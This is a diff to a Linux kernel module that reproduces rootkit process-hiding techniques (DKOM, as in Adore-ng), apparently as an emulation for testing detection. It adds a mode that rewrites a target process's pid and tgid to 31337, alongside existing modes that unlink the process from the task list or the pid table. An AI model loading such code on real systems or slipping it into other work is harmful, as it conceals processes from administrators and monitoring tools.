@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
 /*
- * Technique: a process is taken out of the list of tasks (how=list), or out of the table of pids (how=pid).
+ * Technique: a process is taken out of the list of tasks (how=list), out of the table of pids (how=pid), or says
+ * that it is another (how=false).
  * Who: DKOM kits; Adore-ng and its kind.
  * Changes: links of the process `pid`. Undone when it is unloaded.
  */
@@ -26,7 +27,9 @@ static int __init start(void)
 	task = identity ? get_pid_task(identity, PIDTYPE_PID) : NULL;
 	if (!task)
 		return -ESRCH;
-	if (HOW("list")) {
+	if (HOW("false")) {
+		task->pid = task->tgid = 31337;
+	} else if (HOW("list")) {
 		list_del_rcu(&task->tasks);
 	} else {
 		saved = identity->tasks[PIDTYPE_PID].first;
@@ -37,7 +40,9 @@ static int __init start(void)
 
 static void __exit stop(void)
 {
-	if (HOW("list"))
+	if (HOW("false"))
+		task->pid = task->tgid = pid;
+	else if (HOW("list"))
 		list_add_tail_rcu(&task->tasks, &init_task.tasks);
 	else
 		WRITE_ONCE(identity->tasks[PIDTYPE_PID].first, saved);
